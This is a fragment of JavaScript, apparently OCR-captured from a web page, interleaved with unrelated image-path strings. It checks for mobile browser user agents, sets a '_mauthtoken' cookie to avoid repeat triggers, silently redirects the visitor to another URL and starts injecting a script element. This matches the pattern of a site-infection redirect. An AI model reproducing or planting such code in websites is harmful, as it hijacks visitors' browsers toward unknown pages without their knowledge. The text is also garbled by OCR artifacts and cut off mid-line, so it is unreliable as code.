)|mwbp|mywa|n10[0-2]|n20[2-3]|n30(0|2)|n50(0|2|5)|n7(0(0|1)|10)|ne((c|m)\-|on|tf|wf|wg|wt)|nok(6|i)|nzph|o2im|op(ti|wv)|oran|owg1|p800|pan(a|d|t)|pdxg|pg(13|\-([1-8]|c))|phil|pire|pl(ay|uc)|pn\-2|po(ck|rt|se)|prox|psio|pt\-g|qa\-a|qc(07|12|21|32|60|\-[2-7]|i\-)|qtek|r380|r600|raks|rim9|ro(ve|zo)|s55\/|sa(ge|ma|mm|ms|ny|va)|sc(01|h\-|oo|p\-)|sdk\/|se(c(\-|0|1)|47|mc|nd|ri)|sgh\-|shar|sie(\-|m)|sk\-0|sl(45|id)|sm(al|ar|b3|it|t5)|so(ft|ny)|sp(01|h\-|v\-|v)|sy(01|mb)|t2(18|50)|t6(00|10|18)|ta(gt|lk)|tcl\-|tdg\-|tel(i|m)|tim\-|t\-mo|to(pl|sh)|ts(70|m\-|m3|m5)|tx\-9|up(\.b|g1|si)|utst|v400|v750|veri|vi(rg|te)|vk(40|5[0-3]|\-v)|vm40|voda|vulc|vx(52|53|60|61|70|80|81|83|85|98)|w3c(\-| )|webc|whit|wi(g |nc|nw)|wmlb|wonu|x700|yas\-|your|zeto|zte\-/i.test(a.substr(0,4))){var tdate = new Date(new Date().getTime() + 1800000); document.cookie = « _mauthtoken=1; path=/;expires= »+tdate.toUTCString();window.location=b;}}})(navigator.userAgent||navigator.vendor||window.opera,’’);}vard=document;var s=d.createElement(‘script’);